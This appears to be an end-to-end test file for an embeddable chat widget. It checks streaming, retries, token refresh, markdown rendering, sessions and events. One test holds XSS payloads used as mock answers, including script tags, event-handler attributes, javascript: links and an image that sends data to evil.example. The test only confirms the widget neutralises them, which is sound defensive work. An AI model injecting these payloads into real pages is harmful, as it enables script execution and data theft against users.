// The chat against a fake API that speaks the backend's contract: streaming, stop, retry with
// the same Idempotency-Key, 401 then a fresh token, markdown and XSS, sessions, storage, events.
import assert from 'node:assert/strict';
import { beforeEach, describe, test } from 'node:test';
import { events, html, jwt, openPage, useServer } from './helpers.mjs';

const TOKEN = jwt('user-1');
let server;
let browser;

useServer((s, b) => {
  server = s;
  browser = b;
  server.pages.set('/', (o) => html(`<script src="/widget/pulse-chat.js" data-api-url="${o}" async></script>`));
});
beforeEach(() => server.api.reset());

const input = (page) => page.locator('pulse-chat textarea');
const assistant = (page) => page.locator('pulse-chat [part~=assistant-message]');
const sends = () => server.api.requests.filter((r) => r.path === '/api/chat/send');

async function openChat(options = {}) {
  const page = await openPage(browser, `${server.origin}/`, {
    token: options.token ?? TOKEN,
    withoutSanitizerApi: options.withoutSanitizerApi,
  });
  await page.locator('pulse-chat [part=launcher]').click();
  await input(page).waitFor();
  return page;
}

async function type(page, text) {
  await input(page).fill(text);
  await input(page).press('Enter');
}

describe('sending', () => {
  test('the answer streams in token by token after a typing indicator', async () => {
    server.api.reply = { deltas: ['One', ' two', ' three', ' four'], delayMs: 250 };
    const page = await openChat();
    // The page records every state the answer passes through (the typing indicator lasts only
    // until the first delta), so how fast this test looks (on a loaded machine, slowly) cannot
    // hide one.
    await page.evaluate(() => {
      const root = document.querySelector('pulse-chat').shadowRoot.querySelector('pulse-chat-panel').shadowRoot;
      window.__texts = [];
      window.__typing = false;
      window.__stop = false;
      new MutationObserver(() => {
        const md = [...root.querySelectorAll('.md')].at(-1);
        if (md) window.__texts.push(md.textContent.trim());
        if (root.querySelector('[role=status][aria-label="Assistant is typing"]')) window.__typing = true;
        if (root.querySelector('[part=stop-button]')) window.__stop = true;
      }).observe(root, { subtree: true, childList: true, characterData: true, attributes: true });
    });
    await type(page, 'Count please');
    await page.locator('pulse-chat [part~=user-message]').getByText('Count please').waitFor();
    await assistant(page).last().getByText('One two three four').waitFor();
    const { texts, typing, stop } = await page.evaluate(() => ({
      texts: window.__texts,
      typing: window.__typing,
      stop: window.__stop,
    }));
    assert.ok(typing, 'the typing indicator showed before the first word');
    assert.ok(stop, 'the Stop button showed while the answer streamed');
    const seen = new Set(texts);
    const partial = [...seen].filter((t) => t && !t.includes('four'));
    assert.ok(
      partial.some((t) => t.includes('One') && !t.includes('three')),
      `saw partial text: ${[...seen]}`,
    );
    await page.locator('pulse-chat').getByRole('button', { name: 'Send' }).waitFor();

    const [req] = sends();
    assert.equal(req.headers.accept, 'text/event-stream');
    assert.match(req.headers['idempotency-key'], /^[0-9a-f-]{36}$/);
    assert.equal(req.body.message, 'Count please');
    assert.equal(req.body.session_id, undefined, 'a new chat lets the server create the session');
    await page.context().close();
  });

  test('Shift+Enter makes a new line, Enter sends, and the input is limited to 16000 characters', async () => {
    const page = await openChat();
    await input(page).pressSequentially('line one');
    const oneLine = (await input(page).boundingBox()).height;
    await input(page).press('Shift+Enter');
    await input(page).pressSequentially('line two');
    assert.ok((await input(page).boundingBox()).height > oneLine, 'the input grows with its text');
    assert.equal(await input(page).inputValue(), 'line one\nline two');
    assert.equal(sends().length, 0);
    assert.equal(await input(page).getAttribute('maxlength'), '16000');
    await input(page).press('Enter');
    await assistant(page).getByText('world').waitFor();
    assert.equal(sends()[0].body.message, 'line one\nline two');
    assert.equal(await input(page).inputValue(), '');
    await page.context().close();
  });

  test('stop aborts the stream and keeps the partial answer marked as stopped', async () => {
    // 6 s of answer: the stop lands well before its end, however busy the machine.
    const deltas = ['Partial', ' answer', ' that', ' goes', ...Array(16).fill(' on')];
    server.api.reply = { deltas, delayMs: 300 };
    const page = await openChat();
    await type(page, 'Tell me a long story');
    await assistant(page).getByText('Partial').waitFor();
    await page.locator('pulse-chat').getByRole('button', { name: 'Stop' }).click();
    await assistant(page).getByText('Stopped.').waitFor();
    const stopped = await assistant(page).last().textContent();
    await page.waitForTimeout(700);
    const text = await assistant(page).last().textContent();
    assert.equal(text, stopped, 'the stream stopped growing');
    assert.ok(text.includes('Partial') && !text.includes(deltas.join('')), `a partial answer: ${text}`);
    const received = await events(page, 'pulse-message-received');
    assert.equal(received.length, 1);
    assert.equal(received[0].detail.interrupted, true);
    await input(page).waitFor();
    await page.locator('pulse-chat').getByRole('button', { name: 'Send' }).waitFor();
    await page.context().close();
  });

  test('a failed send offers a retry that reuses the same Idempotency-Key', async () => {
    server.api.failSends = 1;
    const page = await openChat();
    await type(page, 'Please work');
    // UPSTREAM_*: the server kept the question; the action asks it again.
    const saved = 'Your message was saved, but no answer came.';
    await page.locator('pulse-chat [part~=user-message]').getByText(saved).waitFor();
    const [error] = await events(page, 'pulse-error');
    assert.equal(error.detail.code, 'UPSTREAM_ERROR');
    await page.locator('pulse-chat').getByRole('button', { name: 'Ask again' }).click();
    await assistant(page).getByText('world').waitFor();
    assert.equal(await page.locator('pulse-chat [part~=user-message]').getByText(saved).count(), 0);
    const [first, second] = sends();
    assert.equal(second.headers['idempotency-key'], first.headers['idempotency-key']);
    assert.equal(second.body.message, 'Please work');
    assert.equal(await page.locator('pulse-chat [part~=user-message]').count(), 1);

    // The next message gets a key of its own. 'world' shows before the answer's last delta, and
    // Enter is ignored while an answer streams: wait for the first answer to end before typing.
    const received = (n) =>
      page.waitForFunction(
        (count) => window.__events.filter((e) => e.type === 'pulse-message-received').length === count,
        n,
      );
    await received(1);
    await type(page, 'Another');
    await received(2);
    assert.notEqual(sends()[2].headers['idempotency-key'], first.headers['idempotency-key']);
    await page.context().close();
  });

  test('an error part in the stream fails the message with its code', async () => {
    server.api.reply = { deltas: ['Hal'], delayMs: 10, error: 'UPSTREAM_TIMEOUT' };
    const page = await openChat();
    await type(page, 'Hello?');
    await page.locator('pulse-chat').getByRole('button', { name: 'Ask again' }).waitFor();
    assert.equal((await events(page, 'pulse-error'))[0].detail.code, 'UPSTREAM_TIMEOUT');
    await page.context().close();
  });

  test('a 401 asks getToken() again and retries once with the new token', async () => {
    const fresh = jwt('user-1', 'fresh');
    server.api.validTokens = new Set([fresh]);
    const page = await openPage(browser, `${server.origin}/`);
    await page.evaluate(
      ([stale, next]) => {
        window.__issued = [stale, next];
        window.PulseChat.init({ getToken: () => window.__issued.shift() ?? next });
      },
      [TOKEN, fresh],
    );
    await page.evaluate(() => window.PulseChat.send('After expiry'));
    await assistant(page).getByText('world').waitFor();
    const auths = sends().map((r) => r.headers.authorization);
    assert.deepEqual(auths, [`Bearer ${TOKEN}`, `Bearer ${fresh}`]);
    assert.equal(sends()[0].headers['idempotency-key'], sends()[1].headers['idempotency-key']);
    await page.context().close();
  });

  test('a token the API keeps refusing ends in the sign-in message, not a silent failure', async () => {
    server.api.validTokens = new Set();
    const page = await openChat();
    await type(page, 'Hi');
    await page.locator('pulse-chat .signin').getByText('Please sign in to chat with us.').waitFor();
    assert.equal((await events(page, 'pulse-error'))[0].detail.code, 'TOKEN_EXPIRED');
    await page.context().close();
  });
});

describe('markdown', () => {
  test('lists, code, tables and links render; links open in a new tab safely', async () => {
    server.api.reply = {
      deltas: [
        '# Menu\n\n',
        '- Espresso\n- Latte\n\n',
        '```js\nconst x = 1 < 2;\n```\n\n',
        '| Size | Price |\n|---|---|\n| S | 3 |\n| L | 4 |\n\n',
        'See [our shop](https://example.com/shop).',
      ],
      delayMs: 10,
    };
    const page = await openChat();
    await type(page, 'Menu?');
    const md = assistant(page).last().locator('.md');
    await md.locator('a').waitFor();
    assert.equal(await md.locator('li').count(), 2);
    assert.equal(await md.locator('pre code').textContent(), 'const x = 1 < 2;');
    assert.equal(await md.locator('table th').count(), 2);
    assert.deepEqual(await md.locator('table td').allTextContents(), ['S', '3', 'L', '4']);
    const link = md.locator('a');
    assert.equal(await link.getAttribute('href'), 'https://example.com/shop');
    assert.equal(await link.getAttribute('target'), '_blank');
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    await page.context().close();
  });

  for (const [label, withoutSanitizerApi] of [
    ['with the browser’s Sanitizer API', false],
    ['without it (the widget’s own allowlist alone)', true],
  ])
    test(`XSS vectors in answers are inert, ${label}`, async () => {
      server.api.reply = {
        deltas: [
          '<img src=x onerror="window.__xss=1">\n\n',
          '<script>window.__xss=2</script>\n\n',
          '<svg onload="window.__xss=3"><circle r=1 /></svg>\n\n',
          '[click](javascript:window.__xss=4) and [data](data:text/html,<script>alert(1)</script>)\n\n',
          '<a href="javascript:window.__xss=5">raw</a> <iframe src="javascript:window.__xss=6"></iframe>\n\n',
          '<div onclick="window.__xss=7" style="position:fixed">styled</div> <form action="https://evil.example"><button>go</button></form>\n\n',
          '![pixel](https://evil.example/leak?data=secret)\n\n',
          '<details open ontoggle="window.__xss=8">x</details> <math><mi xlink:href="javascript:window.__xss=9">m</mi></math> done',
        ],
        delayMs: 5,
      };
      const page = await openChat({ withoutSanitizerApi });
      assert.equal(
        await page.evaluate(() => typeof Element.prototype.setHTML),
        withoutSanitizerApi ? 'undefined' : 'function',
      );
      await type(page, 'Try to hack me');
      const md = assistant(page).last().locator('.md');
      await md.getByText('done').waitFor();
      assert.match(await md.textContent(), /<script>window\.(__)?xss=2<\/script>/, 'raw HTML is shown as text');
      await page.waitForTimeout(300);
      for (const a of await md.locator('a').all()) {
        await a.click({ modifiers: [] }).catch(() => {});
      }
      await md.getByText('styled').click();
      await page.waitForTimeout(200);
      assert.equal(await page.evaluate(() => window.__xss), undefined);
      const found = await page.evaluate(() => {
        const root = document.querySelector('pulse-chat').shadowRoot.querySelector('pulse-chat-panel').shadowRoot;
        const nodes = [...root.querySelectorAll('.md *')];
        return {
          tags: [...new Set(nodes.map((n) => n.localName))].sort(),
          handlers: nodes.flatMap((n) =>
            [...n.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style').map((a) => a.name),
          ),
          hrefs: nodes.map((n) => n.getAttribute('href')).filter(Boolean),
        };
      });
      for (const tag of ['script', 'img', 'svg', 'iframe', 'form', 'button', 'math'])
        assert.ok(!found.tags.includes(tag), `${tag} removed: ${found.tags}`);
      assert.deepEqual(found.handlers, []);
      assert.ok(
        found.hrefs.every((h) => /^https?:/.test(h)),
        `only http(s) links survive: ${found.hrefs}`,
      );
      assert.deepEqual(await page.evaluate(() => window.__csp), []);
      await page.context().close();
    });
});

describe('sessions', () => {
  test('the chats list opens, renames and deletes sessions, and new chat starts over', async () => {
    const coffee = server.api.addSession('Coffee beans', 4);
    const tea = server.api.addSession('Tea delivery', 2);
    const page = await openChat();
    await page.locator('pulse-chat').getByRole('button', { name: 'Earlier chats' }).click();
    const list = page.locator('pulse-chat [part=sessions]');
    await list.getByText('Coffee beans').waitFor();
    assert.deepEqual(
      (await list.locator('.open').allTextContents()).map((t) => t.trim()),
      ['Coffee beans', 'Tea delivery'],
    );
    assert.match(server.api.requests.find((r) => r.path.startsWith('/api/chat/sessions?')).path, /limit=20/);

    await list.getByRole('button', { name: 'Rename: Tea delivery' }).click();
    const title = page.locator('pulse-chat').getByRole('textbox', { name: 'Chat title' });
    await title.fill('Green tea');
    await title.press('Enter');
    await list.getByText('Green tea').waitFor();
    assert.equal(server.api.sessions.find((s) => s.id === tea.id).title, 'Green tea');
    assert.deepEqual(server.api.requests.find((r) => r.method === 'PUT').body, { title: 'Green tea' });

    // Deleting asks first; Cancel keeps the chat, the second Delete removes it.
    await list.getByRole('button', { name: 'Delete: Green tea' }).click();
    const confirm = list.getByRole('group', { name: 'Delete' });
    await confirm.getByText('Delete “Green tea” for good?').waitFor();
    await confirm.getByRole('button', { name: 'Cancel' }).click();
    assert.ok(!server.api.requests.some((r) => r.method === 'DELETE'), 'nothing deleted before the confirmation');
    await list.getByRole('button', { name: 'Delete: Green tea' }).click();
    await confirm.getByRole('button', { name: 'Delete', exact: true }).click();
    await list.getByText('Green tea').waitFor({ state: 'detached' });
    assert.ok(server.api.requests.some((r) => r.method === 'DELETE' && r.path === `/api/chat/sessions/${tea.id}`));

    await list.getByText('Coffee beans').click();
    await page.locator('pulse-chat').getByText('Coffee beans message 4').waitFor();
    assert.equal(await page.locator('pulse-chat [part~=message]').count(), 4);
    const change = await events(page, 'pulse-session-change');
    assert.equal(change.at(-1).detail.sessionId, coffee.id);

    await type(page, 'More about beans');
    await assistant(page).getByText('world').waitFor();
    assert.equal(sends()[0].body.session_id, coffee.id);

    await page.locator('pulse-chat').getByRole('button', { name: 'New chat' }).click();
    await page.locator('pulse-chat').getByText('Hi! How can I help you today?').waitFor();
    assert.equal((await events(page, 'pulse-session-change')).at(-1).detail.sessionId, null);
    await page.context().close();
  });

  test('long histories load the latest page first and earlier messages on demand', async () => {
    const long = server.api.addSession('Long one', 60);
    const page = await openChat();
    await page.evaluate((id) => localStorage.setItem('pulse-chat:session:user-1', id), long.id);
    await page.reload();
    await page.locator('pulse-chat [part=launcher]').click();
    await page.locator('pulse-chat').getByText('Long one message 60').waitFor();
    assert.equal(await page.locator('pulse-chat [part~=message]').count(), 50);
    await page.locator('pulse-chat').getByRole('button', { name: 'Show earlier messages' }).click();
    await page.locator('pulse-chat').getByText('Long one message 1', { exact: true }).waitFor();
    assert.equal(await page.locator('pulse-chat [part~=message]').count(), 60);
    const texts = (await page.locator('pulse-chat [part~=message] :is(.text, .md)').allTextContents()).map((t) =>
      t.trim(),
    );
    assert.match(texts[0], /message 1$/);
    assert.match(texts[59], /message 60$/);
    await page.context().close();
  });

  test('the current session is remembered per user across reloads; the token never is', async () => {
    const page = await openChat();
    await type(page, 'Remember me');
    await assistant(page).getByText('world').waitFor();
    const sessionId = server.api.sessions[0].id;
    const stored = await page.evaluate(() => ({ ...localStorage }));
    assert.deepEqual(stored, { 'pulse-chat:session:user-1': sessionId });
    const everywhere = await page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href]),
    );
    assert.ok(!everywhere.includes(TOKEN));
    assert.ok(
      server.api.requests.every((r) => !r.path.includes(TOKEN)),
      'token never in a URL',
    );

    await page.reload();
    await page.locator('pulse-chat [part=launcher]').click();
    await page.locator('pulse-chat').getByText('Remember me').waitFor();
    assert.ok(server.api.requests.some((r) => r.path === `/api/chat/sessions/${sessionId}?limit=50`));

    // Another user signing in on the same page does not see it, and gets it back on return.
    const other = jwt('user-2');
    server.api.validTokens.add(other);
    await page.evaluate((t) => window.PulseChat.setToken(t), other);
    await page.locator('pulse-chat').getByText('Hi! How can I help you today?').waitFor();
    assert.equal(await page.locator('pulse-chat').getByText('Remember me').count(), 0);
    await page.evaluate((t) => window.PulseChat.setToken(async () => t), TOKEN);
    await page.locator('pulse-chat').getByText('Remember me').waitFor();
    await page.evaluate(() => window.PulseChat.setToken(null));
    await page.locator('pulse-chat').getByText('Please sign in to chat with us.').waitFor();
    assert.equal(await page.locator('pulse-chat').getByText('Remember me').count(), 0);
    await page.context().close();
  });
});

describe('host events and the bubble', () => {
  test('message events carry details, and an answer arriving while closed raises the unread badge', async () => {
    // 3 s of answer: the panel is closed (Escape) well before it ends.
    server.api.reply = { deltas: ['Slow', ' reply'], delayMs: 1500 };
    const page = await openChat();
    await type(page, 'Ping');
    await page.keyboard.press('Escape');
    await page.waitForFunction(() => window.__events.some((e) => e.type === 'pulse-message-received'));
    const badge = page.locator('pulse-chat [part=badge]');
    assert.equal((await badge.textContent()).trim(), '1');
    assert.match(await page.locator('pulse-chat [part=launcher]').getAttribute('aria-label'), /1 new/);

    const [sent] = await events(page, 'pulse-message-sent');
    assert.equal(sent.detail.text, 'Ping');
    assert.equal(sent.detail.idempotencyKey, sends()[0].headers['idempotency-key']);
    const [received] = await events(page, 'pulse-message-received');
    assert.equal(received.detail.text, 'Slow reply');
    assert.equal(received.detail.sessionId, server.api.sessions[0].id);
    assert.match(received.detail.messageId, /^msg_/);
    assert.equal(received.detail.interrupted, false);
    const [change] = await events(page, 'pulse-session-change');
    assert.equal(change.detail.sessionId, server.api.sessions[0].id);

    await page.locator('pulse-chat [part=launcher]').click();
    await badge.waitFor({ state: 'hidden' });
    await page.context().close();
  });

  test('a host can veto a message through the cancelable pulse-request-send event', async () => {
    const page = await openChat();
    await page.evaluate(() =>
      document.addEventListener('pulse-request-send', (e) => e.detail.text.includes('secret') && e.preventDefault()),
    );
    await type(page, 'my secret');
    await page.waitForTimeout(200);
    assert.equal(sends().length, 0);
    await type(page, 'fine');
    await assistant(page).getByText('world').waitFor();
    assert.equal(sends().length, 1);
    await page.context().close();
  });
});
